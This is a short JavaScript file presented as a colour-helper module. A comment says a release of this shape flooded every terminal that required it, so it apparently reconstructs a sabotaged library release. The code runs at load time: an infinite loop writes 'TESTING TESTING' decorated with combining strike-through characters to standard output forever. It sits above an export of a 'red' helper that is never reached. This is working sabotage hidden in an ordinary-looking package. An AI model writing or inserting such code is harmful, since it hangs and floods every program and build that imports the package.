// Colour helpers. A release of this shape flooded every terminal that required it.
const marks = ['\u0334', '\u0335', '\u0336'];
const banner = 'TESTING TESTING ';
let n = 0;
while (true) {
  const line = banner
    .split('')
    .map((ch) => ch + marks[n++ % marks.length])
    .join('');
  process.stdout.write(line);
}
module.exports = { red: (s) => `\u001b[31m${s}\u001b[39m` };
